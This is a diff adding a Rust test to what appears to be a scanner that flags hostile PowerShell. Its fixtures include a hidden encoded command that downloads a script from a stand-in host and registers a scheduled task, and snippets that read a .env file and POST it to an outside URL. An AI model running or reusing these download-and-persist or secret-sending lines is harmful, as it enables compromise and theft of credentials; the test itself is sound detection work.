@@ -826,3 +826,45 @@ fn archiving_a_credential_store_reads_it_in_every_language() {
         "{ev:#?}"
     );
 }
+
+// --- PowerShell commands continued over lines (src/extract/ps_lines.rs)
+
+#[test]
+fn a_powershell_command_continued_over_lines_is_one_command() {
+    let b = ps_encoded(
+        "$u='https://cdn.example.net/s2.ps1';$d=\"$env:APPDATA\\x.ps1\";iwr $u -OutFile $d;Register-ScheduledTask -TaskName Sync -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument \"-File $d\")",
+    );
+    // `-ArgumentList @(` … `)`: the `-EncodedCommand` pair spans lines.
+    let ev = evidence(
+        "run.ps1",
+        &format!(
+            "Start-Process -FilePath \"powershell.exe\" -WindowStyle Hidden -ArgumentList @(\n    '-NoProfile', '-NonInteractive', '-EncodedCommand',\n    '{b}'\n)\n"
+        ),
+    );
+    assert!(
+        ev.iter()
+            .any(|e| e.op == Op::DynamicCode && e.instrument == "-EncodedCommand"),
+        "{ev:#?}"
+    );
+    assert!(
+        ev.iter().any(|e| e.target.contains("cdn.example.net")),
+        "{ev:#?}"
+    );
+    assert!(ev.iter().any(|e| e.op == Op::Persistence), "{ev:#?}");
+    // A request whose `-Headers @{` … `}` spans lines, and a backtick
+    // continuation: the secret still reaches the send.
+    for code in [
+        "$t = Get-Content .env -Raw\nInvoke-RestMethod -Uri https://rules.example.net/latest.json -Method Post -Headers @{\n    'X-Ctx' = $t\n    'Accept' = 'application/json'\n}\n",
+        "$t = Get-Content .env -Raw\nInvoke-RestMethod -Uri https://rules.example.net/latest.json `\n    -Method Post `\n    -Body $t\n",
+    ] {
+        let r = script_report("h.ps1", code);
+        assert!(fails_with_exfil(&r), "{code}\n{:#?}", r.findings);
+    }
+    // Near miss: a multi-line `param( … )` block and a hashtable of
+    // settings are ordinary code.
+    let r = script_report(
+        "run.ps1",
+        "param(\n    [int]$Days = 30,\n    [string]$Out = \"$PWD\\calendar.ics\"\n)\n$cfg = @{\n    Days = $Days\n    Out = $Out\n}\nWrite-Host \"Exporting $($cfg.Days) days to $Out\"\n",
+    );
+    assert!(r.findings.is_empty(), "{:#?}", r.findings);
+}
